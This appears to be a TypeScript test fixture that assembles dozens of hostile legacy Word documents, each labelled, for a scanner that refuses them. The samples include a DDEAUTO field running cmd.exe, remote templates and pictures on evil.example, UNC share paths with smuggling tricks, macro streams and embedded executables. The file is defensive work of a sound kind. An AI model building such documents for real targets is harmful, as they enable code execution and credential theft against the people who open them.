/** Old Word documents of every kind that is refused, each with what it is. */
import { doc, zip } from '../documents';
import { OWN, THIRD, propertyTable } from '../wordDrawings';
import { hostileDocsElsewhere, withData } from './elsewhereDocs';
import { hostileInstructions, hostileLinks } from './fields';
import type { Hostile } from './pdfs';

const PLAIN = ['WordDocument', '1Table'];
const saying = (text: string): Buffer => doc(PLAIN, { text });
const field = (instruction: string): Buffer => saying(`a\u0013 ${instruction} \u0014x\u0015b`);
/** A document with this in its header, where nobody looks for anything. */
const startingAs = (text: string): Buffer => {
  const bytes = doc();
  bytes.write(text, 8, 'latin1');
  return bytes;
};
const linked = (property: number, flags: number): Buffer =>
  withData(propertyTable([[property, flags]], { type: property > 0x3ff ? THIRD : OWN }));
/** Files beside it, of which it says that they belong to it. */
const elsewhereData: Hostile[] = [
  ...[44, 126, 127].map((pair): Hostile => [
    `merged data, by the structure ${pair}`,
    doc(PLAIN, { structures: { [pair]: Buffer.alloc(8) } }),
  ]),
  ...[8, 9].map((index): Hostile => [
    `merged data, by the text ${index} about it`,
    doc(PLAIN, { associated: Array.from({ length: 18 }, (_, at) => (at === index ? 'DSN=x' : '')) }),
  ]),
  ['names of other files', doc(PLAIN, { structures: { 72: Buffer.from('ffff00000000', 'hex') } })],
  ['frames', doc(PLAIN, { structures: { 99: Buffer.from('0800000000000000', 'hex') } })],
  [
    'frames behind styles of lists',
    doc(PLAIN, { structures: { 99: Buffer.from('08000000060000000800000001000000', 'hex') } }),
  ],
  [
    'texts about it that go on beyond their end',
    doc(PLAIN, { structures: { 32: Buffer.from('ffff0900000000000000', 'hex') } }),
  ],
];

export const hostileDocs: Hostile[] = [
  ...[
    'Macros',
    '_VBA_PROJECT',
    'VBA',
    'ObjectPool',
    '\u0003ObjInfo',
    'Package',
    'EncryptedPackage',
    'Workbook',
    'X',
  ].map((name): Hostile => [`an entry ${JSON.stringify(name)}`, doc([...PLAIN, name])]),
  ['a macro project in other letters', doc([...PLAIN, 'MACROS'])],
  ['a field that runs', field('DDEAUTO c:\\\\cmd.exe')],
  ['a field that fetches a picture', field('INCLUDEPICTURE "https://evil.example/a.png"')],
  ...[...hostileLinks, ...hostileInstructions]
    // The texts of these documents are of letters of one byte.
    .filter((text) => Buffer.from(text, 'latin1').toString('latin1') === text)
    .map((text): Hostile => [JSON.stringify(text.slice(0, 70)), field(text)]),
  ['a link whose address another field says', saying('\u0013HYPERLINK \u0013REF x\u0014y\u0015\u0014\u0015')],
  ['a field whose name another field makes', saying('\u0013\u0013 REF x \u0014DDEAUTO\u0015 cmd \u0015')],
  ['a field that never ends', saying('\u0013 DDEAUTO cmd')],
  ['a link to a share', field('HYPERLINK "\\\\\\\\host\\\\share"')],
  ['a template from the web', doc(PLAIN, { template: 'https://evil.example/a.dotm' })],
  ['a template on a share', doc(PLAIN, { template: '\\\\host\\share\\a.dot' })],
  ...hostileDocsElsewhere,
  ...elsewhereData,
  ...[0x0106, 0x0111, 0x0188, 0x01c7, 0x0547, 0x0587, 0x05c7, 0x0607].flatMap((property): Hostile[] => [
    [`a linked picture by the property ${property}`, linked(property, 10)],
    [`a picture that is not kept by the property ${property}`, linked(property, 6)],
  ]),
  ...[
    '\\??\\UNC\\host\\share\\a.dot',
    '\\\\?\\UNC\\host\\a.dot',
    '\u200b\\\\host\\a.dot',
    'C:\\a.dot\0\\\\host\\s',
    '\\Device\\Mup\\host\\a.dot',
    'C:\\\\host\\a.dot',
  ].map((template): Hostile => [`the template ${JSON.stringify(template)}`, doc(PLAIN, { template })]),
  ...(['latin1', 'utf16le'] as const).map((encoding): Hostile => [
    `a place in front of its links, in ${encoding}`,
    doc([...PLAIN, '\u0005DocumentSummaryInformation'], {
      contents: {
        '\u0005DocumentSummaryInformation': Buffer.from('_PID_LINKBASE\\\\host\\share', encoding),
      },
    }),
  ]),
  [
    'a program among its data',
    doc([...PLAIN, 'Data'], { contents: { Data: Buffer.from('MZ\u0090\0\u0003\0\0\0 program', 'latin1') } }),
  ],
  [
    'a linked object',
    doc([...PLAIN, '\u0001Ole'], { contents: { '\u0001Ole': Buffer.from([1, 0, 0, 2, 1, 0, 0, 0]) } }),
  ],
  ['encryption', doc(PLAIN, { encrypted: true })],
  ['an archive behind it', Buffer.concat([doc(), zip([{ name: 'a', content: 'x' }])])],
  ['a program behind it', Buffer.concat([doc(), Buffer.from('MZ')])],
  ['a PDF near its beginning', startingAs('%PDF-1.7')],
  ['no text', doc(['1Table'])],
];
